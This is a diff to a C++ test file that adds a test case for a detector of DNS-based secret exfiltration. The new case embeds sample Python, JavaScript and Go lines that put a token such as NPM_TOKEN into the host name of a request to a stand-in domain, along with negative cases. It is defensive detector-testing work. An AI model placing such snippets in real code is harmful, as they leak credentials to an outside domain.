@@ -48,6 +48,20 @@ TEST_CASE("a secret put into a hostname that is resolved or connected to is DNS 
                  kDns, true);
 }
 
+TEST_CASE("a request to a URL whose host name is built from a secret leaks it to that domain's DNS") {
+  check_detector("sync.py", "def f(token):\n    urllib.request.urlopen('https://' + token + '.x.example/p')\n", kDns, true);
+  check_detector("sync.js", "await fetch(`https://${process.env.NPM_TOKEN}.x.example/p`);\n", kDns, true);
+  check_detector("sync.go",
+                 "package x\nfunc f() { http.Get(\"https://\" + os.Getenv(\"NPM_TOKEN\") + \".x.example/\") }\n", kDns,
+                 true);
+  // a secret in the path or query is not in a DNS name (other detectors judge the request itself)
+  check_detector("sync.py", "requests.get(f\"https://api.example.com/{os.environ['API_TOKEN']}\")\n", kDns, false);
+  check_detector("sync.js", "await fetch(`https://${region}.api.example.com/${process.env.API_TOKEN}`);\n", kDns, false);
+  check_detector("sync.go",
+                 "package x\nfunc f() { http.Get(\"https://\" + os.Getenv(\"API_HOST\") + \"/v1?t=\" + token) }\n", kDns,
+                 false);
+}
+
 TEST_CASE("resolving constant hosts, configured hosts and health checks is not DNS exfiltration") {
   check_detector("net.py", "print(socket.gethostbyname(socket.gethostname()))\nsocket.getaddrinfo('localhost', 8080)\n",
                  kDns, false);
